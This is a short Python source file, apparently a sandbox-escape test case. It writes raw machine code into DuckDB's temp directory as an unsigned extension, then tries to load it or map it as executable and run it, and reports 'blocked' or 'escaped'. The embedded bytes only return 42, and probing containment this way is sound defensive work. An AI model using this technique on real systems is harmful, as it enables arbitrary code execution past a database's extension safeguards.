"""Write machine code to the directory for what does not fit into memory, and have it loaded.

origin: LOAD 'path', and CREATE FUNCTION in databases that load shared objects
why: it is the one place a query can write to
control: succeeds
grants: data
data: input
"""

CODE = {"x86_64": b"\xb8\x2a\x00\x00\x00\xc3", "aarch64": b"\x40\x05\x80\x52\xc0\x03\x5f\xd6"}


def attack(target):
    own, other = databases(allow_unsigned_extensions="true")
    place = ask(own, "SELECT current_setting('temp_directory')")[0][0][0]
    path = os.path.join(place if os.path.isdir(place) else target["stage"], "code.duckdb_extension")
    fd, error = openat(target, path, os.O_CREAT | os.O_RDWR, 0o700)
    if fd < 0:
        return blocked("openat", error)
    os.write(fd, CODE[target["machine"]] + bytes(8192))
    for database in (own, other):
        loaded, refused = ask(database, f"LOAD '{path}'")
        if not refused:
            return escaped("an extension was loaded")
    address, error = syscall(target, "mmap", 0, 4096, 5, 2, fd, 0)
    return blocked("mmap", error) if error else escaped(f"it ran: {ctypes.CFUNCTYPE(ctypes.c_int)(address)()}")
